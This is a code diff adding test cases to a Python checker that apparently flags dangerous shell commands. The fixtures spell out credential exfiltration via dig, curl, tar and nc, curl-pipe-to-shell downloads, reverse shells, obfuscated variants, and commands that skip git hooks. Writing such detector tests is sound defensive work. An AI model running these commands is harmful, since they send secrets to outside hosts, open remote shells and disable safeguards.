@@ -217,4 +217,19 @@ class ShellCommandChecker(PythonChecker):
         Invalid('import os\nos.system("dig $(cat ~/.aws/credentials | base64 | head -c 60).x.example")\n', "BDL404", 2),
         Invalid('import os\nos.system("rm -f .pre-commit-config.yaml")\n', "BDL803", 2),
         Invalid('import subprocess\nsubprocess.run("git commit --no-verify -m wip", shell=True)\n', "BDL804", 2),
+        # the function under another name, lists, fragments; the seed example (environment sent by curl);
+        # what a shell script with the same text gets: `tar cz ~/.ssh | nc` sends credentials, BDL402
+        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
+        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
+        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
+                'shell=True)\n', "BDL402", 2),
+        Invalid('import subprocess\ndef f():\n    subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True)\n',
+                "BDL405", 3),
+        Invalid('import os\ndef f(h):\n    os.system(f"bash -i >& /dev/tcp/{h}/4444 0>&1")\n', "BDL405", 3),
+        Invalid('import subprocess\nCMD = ["bash", "-c", "wget -q https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]\n'
+                'def f():\n    subprocess.Popen(CMD)\n', "BDL405", 4),
+        Invalid('import subprocess as sp\nT = "cu" + "rl"\ndef f():\n    sp.call(T + " -s https://get.example | b" + "ash", '
+                'shell=True)\n', "BDL405", 4),
+        Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
+        Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL402", 3),
     ]
